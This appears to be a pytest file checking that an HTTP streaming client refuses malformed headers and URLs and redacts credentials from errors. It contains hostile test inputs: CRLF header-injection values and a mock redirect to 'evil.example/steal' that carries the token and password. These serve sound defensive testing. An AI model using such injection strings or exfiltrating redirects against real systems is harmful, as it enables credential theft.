"""Secrets and bad configuration: nothing the caller passes as a credential ever shows."""

from __future__ import annotations

import pytest

from tests.hostile.handlers import reply, stream_headers
from tests.hostile.harness import BEARER, PASSWORD, TOKEN, check, run
from tests.hostile.server import Conn, HostileServer, Request

OK = reply(200, stream_headers())


@pytest.mark.parametrize(
    "value",
    [
        f"Bearer {BEARER}\n",
        f"Bearer {BEARER}\r\nX-Injected: 1",
        f"Bearer {BEARER}\x00",
        f"\nBearer {BEARER}",
    ],
)
def test_header_value_with_line_break_or_nul_is_refused_locally(value: str) -> None:
    report = run(OK, "call", {"method": "head"}, handle={"headers": {"Authorization": value}})
    check(report, error="InvalidArgumentError", code="INVALID_ARGUMENT", max_requests=0)
    assert report.requests == 0


def test_per_call_header_with_trailing_newline_is_refused_without_retries() -> None:
    report = run(
        OK,
        "call",
        {"method": "head", "kwargs": {"headers": {"X-Api-Key": f"{BEARER}\n"}}},
    )
    check(report, error="InvalidArgumentError", max_requests=0)


def test_redirect_echoing_the_token_is_redacted_everywhere() -> None:
    async def handle(request: Request, conn: Conn, server: HostileServer) -> bool:
        await conn.respond(
            302,
            {
                "Location": f"http://evil.example/steal?token={TOKEN}&pw={PASSWORD}",
                "Content-Location": f"/v1/stream/s?token={TOKEN}",
                "Set-Cookie": f"session={BEARER}",
            },
            f"moved: {request.target} {request.headers.get('authorization')}".encode(),
        )
        return True

    for method in ("head", "append"):
        report = run(
            handle,
            "call",
            {"method": method, "args": [] if method == "head" else ["x"]},
            handle={"content_type": "text/plain"},
        )
        check(report, error="StatusError", max_requests=1)
        assert report.error["headers"]["location"] != ""


def test_read_redirect_echoing_the_token_is_redacted() -> None:
    async def handle(request: Request, conn: Conn, server: HostileServer) -> bool:
        await conn.respond(307, {"Location": f"/elsewhere?token={TOKEN}"}, b"")
        return True

    report = run(handle, "read", {"how": "body"})
    check(report, error="StatusError", max_requests=1)


def test_error_body_echoing_credentials_is_scrubbed() -> None:
    async def handle(request: Request, conn: Conn, server: HostileServer) -> bool:
        echo = f"bad request {request.target} auth={request.headers.get('authorization')}"
        await conn.respond(400, {"Content-Type": "text/plain"}, echo.encode())
        return True

    report = run(handle, "read", {"how": "body"})
    check(report, error="BadRequestError", max_requests=1)


@pytest.mark.parametrize(
    "url",
    [
        f"http://u:{PASSWORD}@127.0.0.1:99999999/x",
        f"http://u:{PASSWORD}@127.0.0.1:-1/x",
        f"http://u:{PASSWORD}@127.0.0.1:abc/x",
        f"ftp://u:{PASSWORD}@127.0.0.1/x",
        f"http://u:{PASSWORD}@/x",
        "http:///x",
        f"http://u:{PASSWORD}@127.0.0.1:80/x?token={TOKEN}#frag\n",
        f"http://u:{PASSWORD}@exa mple.com/x",
        f"//u:{PASSWORD}@127.0.0.1/x",
    ],
)
def test_invalid_urls_are_invalid_argument_errors_without_secrets(url: str) -> None:
    report = run(OK, "construct", url=url)
    check(report, error="InvalidArgumentError", code="INVALID_ARGUMENT", max_requests=0)


def test_invalid_header_name_is_refused() -> None:
    report = run(OK, "construct", handle={"headers": {"X Bad": BEARER}})
    check(report, error="InvalidArgumentError", max_requests=0)


def test_secret_header_value_with_non_ascii_is_refused_without_showing_it() -> None:
    report = run(
        OK, "call", {"method": "head"}, handle={"headers": {"Authorization": f"Bearer {BEARER}é"}}
    )
    check(report, error="InvalidArgumentError", max_requests=0)
